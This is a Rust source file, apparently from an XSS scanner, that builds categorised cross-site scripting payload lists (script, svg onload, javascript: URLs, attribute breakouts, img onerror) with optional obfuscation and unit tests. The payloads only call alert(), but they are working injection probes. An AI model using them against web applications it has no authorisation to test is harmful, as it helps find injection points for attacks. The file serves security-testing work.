use crate::xss::error::ScanError;
use crate::xss::mutator;
use crate::xss::types::Endpoint;
use indexmap::IndexMap;
use rand::Rng;
use serde::{Deserialize, Serialize};
use std::path::Path;

pub const BASIC: &str = "basic";
pub const URL: &str = "url";
pub const ATTRIBUTE: &str = "attribute";
pub const IMG: &str = "img";
pub const BODY: &str = "body";

/// Category order used for full payload generation
pub const FULL_CATEGORIES: [&str; 5] = [BASIC, URL, ATTRIBUTE, IMG, BODY];

/// Categorized base payloads: category name → ordered payload strings.
///
/// Loaded from YAML shaped like:
///
/// ```yaml
/// basic:
///   - "<script>alert(1)</script>"
/// img:
///   - "<img src=x onerror=alert(1)>"
/// ```
#[derive(Debug, Clone, Default, Serialize, Deserialize, PartialEq, Eq)]
#[serde(transparent)]
pub struct PayloadCorpus {
    categories: IndexMap<String, Vec<String>>,
}

impl PayloadCorpus {
    pub fn new(categories: IndexMap<String, Vec<String>>) -> Self {
        Self { categories }
    }

    pub fn from_yaml_str(yaml: &str) -> Result<Self, ScanError> {
        if yaml.trim().is_empty() {
            return Ok(Self::default());
        }
        Ok(serde_yaml::from_str(yaml)?)
    }

    pub fn from_file(path: &Path) -> Result<Self, ScanError> {
        let content = std::fs::read_to_string(path).map_err(|e| {
            ScanError::Config(format!("Failed to read payload file {}: {}", path.display(), e))
        })?;
        Self::from_yaml_str(&content)
    }

    /// Default corpus shipped with the scanner
    pub fn builtin() -> Self {
        let category = |items: &[&str]| items.iter().map(|s| s.to_string()).collect::<Vec<_>>();

        Self::new(IndexMap::from([
            (
                BASIC.to_string(),
                category(&[
                    "<script>alert(1)</script>",
                    "<svg/onload=alert(1)>",
                    "\"><script>alert(1)</script>",
                    "'><script>alert(String.fromCharCode(88,83,83))</script>",
                ]),
            ),
            (
                URL.to_string(),
                category(&[
                    "javascript:alert(1)",
                    "JaVaScRiPt:alert(1)",
                    "data:text/html,<script>alert(1)</script>",
                ]),
            ),
            (
                ATTRIBUTE.to_string(),
                category(&[
                    "\" onmouseover=\"alert(1)",
                    "' onfocus='alert(1)' autofocus='",
                    "\" autofocus onfocus=alert(1) x=\"",
                ]),
            ),
            (
                IMG.to_string(),
                category(&[
                    "<img src=x onerror=alert(1)>",
                    "<IMG SRC=x onerror=alert('XSS')>",
                    "<img src=\"x\" onerror=\"alert(1)\">",
                ]),
            ),
            (
                BODY.to_string(),
                category(&[
                    "<body onload=alert(1)>",
                    "<details open ontoggle=alert(1)>",
                    "<iframe src=javascript:alert(1)>",
                    "<svg/onload=alert(1)>",
                ]),
            ),
        ]))
    }

    pub fn category(&self, name: &str) -> &[String] {
        self.categories.get(name).map(Vec::as_slice).unwrap_or(&[])
    }

    pub fn basic(&self) -> &[String] {
        self.category(BASIC)
    }

    /// Total payload count across categories
    pub fn len(&self) -> usize {
        self.categories.values().map(Vec::len).sum()
    }

    pub fn is_empty(&self) -> bool {
        self.len() == 0
    }

    pub fn category_count(&self) -> usize {
        self.categories.len()
    }

    /// Payload list for one endpoint
    pub fn generate(&self, endpoint: &Endpoint, basic_only: bool, obfuscate: bool) -> Vec<String> {
        self.generate_with(endpoint, basic_only, obfuscate, &mut rand::thread_rng())
    }

    pub fn generate_with<R: Rng + ?Sized>(
        &self,
        endpoint: &Endpoint,
        basic_only: bool,
        obfuscate: bool,
        rng: &mut R,
    ) -> Vec<String> {
        if endpoint.is_dom() {
            let mut payloads = Vec::new();
            push_unique(&mut payloads, self.basic().iter().cloned());
            if obfuscate {
                append_obfuscated(&mut payloads, rng);
            }
            return payloads;
        }

        if basic_only {
            return self.basic().to_vec();
        }

        let mut payloads = Vec::new();
        for category in FULL_CATEGORIES {
            if category == URL && !endpoint.is_query_param() {
                continue;
            }
            push_unique(&mut payloads, self.category(category).iter().cloned());
        }

        if obfuscate {
            append_obfuscated(&mut payloads, rng);
        }
        payloads
    }
}

fn push_unique(payloads: &mut Vec<String>, items: impl IntoIterator<Item = String>) {
    for item in items {
        if !payloads.contains(&item) {
            payloads.push(item);
        }
    }
}

fn append_obfuscated<R: Rng + ?Sized>(payloads: &mut Vec<String>, rng: &mut R) {
    let originals = payloads.clone();
    for payload in &originals {
        push_unique(payloads, mutator::obfuscate_with(payload, rng));
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::xss::types::HttpMethod;
    use rand::rngs::StdRng;
    use rand::SeedableRng;

    const CORPUS: &str = r#"
basic:
  - "<script>alert(1)</script>"
  - "<b>x</b>"
url:
  - "javascript:alert(1)"
attribute:
  - "\" onmouseover=alert(1)"
img:
  - "<img src=x onerror=alert(1)>"
  - "<b>x</b>"
body:
  - "<body onload=alert(1)>"
"#;

    fn corpus() -> PayloadCorpus {
        PayloadCorpus::from_yaml_str(CORPUS).unwrap()
    }

    fn link() -> Endpoint {
        Endpoint::Link {
            url: "/s?q=1".to_string(),
            param: "q".to_string(),
            value: "1".to_string(),
        }
    }

    fn form() -> Endpoint {
        Endpoint::Form {
            url: "/post".to_string(),
            method: HttpMethod::POST,
            params: IndexMap::from([("c".to_string(), String::new())]),
        }
    }

    #[test]
    fn test_basic_only_returns_basic_unchanged() {
        let corpus = corpus();
        for endpoint in [link(), form()] {
            assert_eq!(corpus.generate(&endpoint, true, false), corpus.basic().to_vec());
            assert_eq!(corpus.generate(&endpoint, true, true), corpus.basic().to_vec());
        }
    }

    #[test]
    fn test_full_generation_for_link_keeps_url_category() {
        let payloads = corpus().generate(&link(), false, false);
        assert_eq!(
            payloads,
            vec![
                "<script>alert(1)</script>",
                "<b>x</b>",
                "javascript:alert(1)",
                "\" onmouseover=alert(1)",
                "<img src=x onerror=alert(1)>",
                "<body onload=alert(1)>",
            ]
        );
    }

    #[test]
    fn test_full_generation_for_form_drops_url_category() {
        let payloads = corpus().generate(&form(), false, false);
        assert!(!payloads.contains(&"javascript:alert(1)".to_string()));
        assert_eq!(payloads.len(), 5);
    }

    #[test]
    fn test_query_fallback_keeps_url_category() {
        let fallback = Endpoint::QueryFallback {
            url: "https://example.com/s?q=1".to_string(),
            param: "q".to_string(),
            value: "1".to_string(),
        };
        let corpus = corpus();
        let payloads = corpus.generate(&fallback, false, false);
        assert_eq!(payloads, corpus.generate(&link(), false, false));
        assert!(payloads.contains(&"javascript:alert(1)".to_string()));
    }

    #[test]
    fn test_dom_endpoint_uses_basic_only() {
        let dom = Endpoint::Dom {
            url: "https://example.com/".to_string(),
            param: "hash".to_string(),
        };
        let corpus = corpus();
        assert_eq!(corpus.generate(&dom, false, false), corpus.basic().to_vec());

        let obfuscated = corpus.generate_with(&dom, false, true, &mut StdRng::seed_from_u64(1));
        assert!(obfuscated.len() > corpus.basic().len());
        assert!(!obfuscated.contains(&"javascript:alert(1)".to_string()));
    }

    #[test]
    fn test_obfuscated_generation_is_deduplicated() {
        let payloads = corpus().generate_with(&link(), false, true, &mut StdRng::seed_from_u64(9));
        let mut sorted = payloads.clone();
        sorted.sort();
        sorted.dedup();
        assert_eq!(sorted.len(), payloads.len());
        assert_eq!(payloads[0], "<script>alert(1)</script>");
        assert!(payloads.contains(&mutator::entity_encode("<b>x</b>")));
    }

    #[test]
    fn test_empty_yaml_is_empty_corpus() {
        let corpus = PayloadCorpus::from_yaml_str("").unwrap();
        assert!(corpus.is_empty());
        assert!(corpus.generate(&link(), false, true).is_empty());
    }

    #[test]
    fn test_invalid_yaml_is_config_error() {
        let err = PayloadCorpus::from_yaml_str("basic: [unterminated").unwrap_err();
        assert!(matches!(err, ScanError::Config(_)));
    }

    #[test]
    fn test_builtin_has_all_categories() {
        let corpus = PayloadCorpus::builtin();
        for category in FULL_CATEGORIES {
            assert!(!corpus.category(category).is_empty(), "{} empty", category);
        }
    }
}
